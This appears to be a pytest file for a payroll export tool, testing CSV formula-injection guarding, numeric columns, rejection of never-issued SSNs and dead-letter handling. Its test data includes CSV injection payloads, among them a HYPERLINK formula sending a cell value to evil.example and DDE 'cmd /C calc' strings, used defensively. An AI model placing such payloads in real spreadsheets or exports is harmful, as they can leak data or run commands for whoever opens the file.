"""Text that lands in a payroll file is safe for it: CSV cells that a spreadsheet would run as a
formula are neutralised (OWASP CSV injection), amounts stay numbers, and an SSN the SSA never
issues is refused (the record is a dead letter naming the field). Against the real sshd + gpg."""

from __future__ import annotations

from typing import Any

import pytest

from hrsync.deadletter import DeadLetterStore
from hrsync.errors import RecordError
from hrsync.identifiers import ssn_problem
from target_payroll_file.layout import load_layout, parse_layout

from .test_target_payroll_file import employee, job, pay

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("title", FORMULAS)
def test_text_cells_starting_like_a_formula_get_a_leading_quote(title: str) -> None:
    layout = load_layout("payroll_changes")
    stream, record = job("1", "11", "2026-01-01", title, "@HQ")
    cells = dict(zip([c.name for c in layout.columns], layout.row(stream, record, "1/11"),
                     strict=True))  # fmt: skip
    assert cells["JOB_TITLE"] == "'" + title.strip()  # the layout trims, then guards
    assert cells["WORK_LOCATION"] == "'@HQ"
    assert cells["RECORD_TYPE"] == "JOB" and cells["EFFECTIVE_DATE"] == "2026-01-01"


def test_numbers_stay_numbers_and_raw_columns_or_layouts_opt_out() -> None:
    spec: dict[str, Any] = {
        "name": "adjustments",
        "streams": {"adjustments": {}},
        "columns": [
            {"name": "AMOUNT", "source": "amount", "type": "decimal", "scale": 2},
            {"name": "UNITS", "source": "units", "type": "integer"},
            {"name": "NOTE", "source": "note"},
            {"name": "CODE", "source": "code", "raw": True},
        ],
    }
    record = {"amount": "-12.50", "units": -3, "note": "-12.50", "code": "=A1"}
    assert parse_layout(spec).row("adjustments", record, "1") == ["-12.50", "-3", "'-12.50", "=A1"]
    raw = parse_layout({**spec, "csv": {"formula_guard": False}})
    assert raw.row("adjustments", record, "1") == ["-12.50", "-3", "-12.50", "=A1"]
    fixed = parse_layout(
        {
            **spec,
            "format": "fixed_width",
            "columns": [{**c, "width": 8} for c in spec["columns"]],
        }
    )
    assert fixed.row("adjustments", record, "1")[2] == "-12.50  "  # not a spreadsheet format


@pytest.mark.parametrize(
    ("ssn", "why"),
    [
        ("000-12-3456", "area number"),
        ("666-12-3456", "area number"),
        ("900-12-3456", "area number"),
        ("987-65-4321", "area number"),
        ("123-00-4567", "group number 00"),
        ("123-45-0000", "serial number 0000"),
    ],
)
def test_never_issued_ssns_are_refused_naming_the_field(ssn: str, why: str) -> None:
    assert ssn_problem("123-45-6789") is None and ssn_problem("123456789") is None
    problem = ssn_problem(ssn)
    assert problem is not None and why in problem
    for name in ("payroll_changes", "payroll_changes_fixed"):
        stream, record = employee("301", ssn=ssn)
        with pytest.raises(RecordError, match=f"record 301: field ssn: .*{why}"):
            load_layout(name).row(stream, record, "301")


def test_the_file_on_the_sftp_drop_holds_neutralised_cells_and_no_bad_ssn(payroll: Any) -> None:
    records = [
        employee("401", first_name="=cmd|' /C calc'!A0", last_name="@Evil"),
        employee("402", ssn="000-12-3456"),
        pay("401", "40101", "2026-01-01", "50000.00"),
        job("401", "40102", "2026-01-01", "+Director", "-London"),
    ]
    run = payroll.run(records, allow_partial_file=True)
    assert run.error is None
    (data,) = payroll.files().values()
    rows = payroll.csv_rows(data)
    assert [r["EMPLOYEE_ID"] for r in rows] == ["401", "401", "401"]
    emp, pay_row, job_row = rows
    assert (emp["FIRST_NAME"], emp["LAST_NAME"]) == ("'=cmd|' /C calc'!A0", "'@Evil")
    assert pay_row["PAY_RATE"] == "50000.00"
    assert (job_row["JOB_TITLE"], job_row["WORK_LOCATION"]) == ("'+Director", "'-London")
    (letter,) = DeadLetterStore().list()
    assert letter.record_key == "402" and "field ssn:" in letter.error
    assert "area number" in letter.error and "000-12-3456" not in letter.error


def test_a_record_without_its_key_is_a_dead_letter_not_the_end_of_the_run(payroll: Any) -> None:
    keyless = employee("0")[1]
    del keyless["employee_id"]
    run = payroll.run([("payroll_employees", keyless), employee("411")], allow_partial_file=True)
    assert run.error is None, run.error
    (data,) = payroll.files().values()
    assert [r["EMPLOYEE_ID"] for r in payroll.csv_rows(data)] == ["411"]
    (letter,) = DeadLetterStore().list()
    assert "employee_id" in letter.error
